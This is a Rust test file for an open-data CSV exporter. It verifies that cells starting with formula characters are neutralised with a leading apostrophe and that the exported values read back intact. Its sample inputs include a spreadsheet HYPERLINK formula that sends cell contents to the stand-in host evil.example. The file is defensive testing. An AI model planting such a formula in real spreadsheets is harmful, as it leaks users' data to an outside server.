//! Open-data CSV cells a spreadsheet would run as formulas are written with a leading `'`
//! (OWASP's advice), and reading the CSV back (`from_csv`, `gongkai import`) restores every
//! value exactly.

use gongkai::content::schema::PlanFile;
use gongkai::opendata::{canonical, from_csv, to_csv, COLUMNS};
use proptest::prelude::*;

mod common;
use common::{agencies, agencies_site, example};

#[path = "import_strategies.rs"]
mod strategies;

/// The CSV's data rows as a spreadsheet would receive the cells.
fn cells(csv: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(csv)
        .unwrap()
        .trim_start_matches('\u{feff}');
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'already quoted",
];

#[test]
fn formula_cells_are_neutralised_and_restored() {
    let mut plans = Vec::new();
    for (i, f) in FORMULAS.iter().enumerate() {
        let mut p = example();
        p.item = i as u32 + 1;
        p.name.zh = f.to_string();
        p.name.en = f.to_string();
        p.review.budget.zh = f.to_string();
        plans.push(p);
    }
    let csv = to_csv(&plans, &agencies());
    let name = COLUMNS.iter().position(|c| *c == "name_zh").unwrap();
    let budget = COLUMNS.iter().position(|c| *c == "budget_zh").unwrap();
    for (row, f) in cells(&csv).iter().zip(FORMULAS) {
        for cell in [&row[name], &row[budget]] {
            assert_eq!(cell, &format!("'{f}"), "{f:?} must be written after a '");
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
        }
    }
    // every other cell of the real example is untouched
    let plain = to_csv(&[example()], &agencies());
    assert!(cells(&plain)[0].iter().all(|c| !c.starts_with('\'')));
    let back = from_csv(&csv).unwrap();
    for (b, p) in back.iter().zip(&plans) {
        assert_eq!(b.name, p.name);
        assert_eq!(b.review.budget, canonical(p).review.budget);
    }
}

#[test]
fn import_of_the_csv_restores_the_values() {
    let dir = agencies_site();
    let mut p = example();
    p.name.zh = FORMULAS[0].to_string();
    p.name.en = "'quoted".to_string();
    let file = dir.path().join("111.csv");
    std::fs::write(&file, to_csv(&[p.clone()], &agencies())).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gongkai"))
        .args(["import", file.to_str().unwrap(), "--year", "111", "--out"])
        .arg(dir.path().join("out"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let back: PlanFile = serde_yaml::from_str(
        &std::fs::read_to_string(dir.path().join("out/mol-office-building.yaml")).unwrap(),
    )
    .unwrap();
    assert_eq!(back.name, p.name);
}

fn formula_text() -> impl Strategy<Value = String> {
    (
        prop::sample::select(vec!["=", "+", "-", "@", "\t", "\r", "'", "''", "", " ="]),
        "\\PC{0,10}",
    )
        .prop_map(|(lead, rest)| format!("{lead}{rest}"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn every_string_round_trips_and_no_cell_starts_a_formula(
        mut plans in proptest::collection::vec(strategies::plan(), 1..3),
        texts in proptest::collection::vec(formula_text(), 8),
    ) {
        for p in &mut plans {
            p.id = texts[0].clone();
            p.agency = texts[1].clone();
            p.name.zh = texts[2].clone();
            p.name.en = texts[3].clone();
            p.review.administration.zh = texts[4].clone();
            p.review.budget.en = texts[5].clone();
            p.review.performance.zh = texts[6].clone();
            p.review.performance.en = texts[7].clone();
        }
        let csv = to_csv(&plans, &agencies());
        for row in cells(&csv) {
            for cell in row {
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?}", cell);
            }
        }
        let back = from_csv(&csv).unwrap();
        let published: Vec<PlanFile> = plans.iter().map(canonical).collect();
        prop_assert_eq!(serde_json::to_value(&back).unwrap(), serde_json::to_value(&published).unwrap());
    }
}
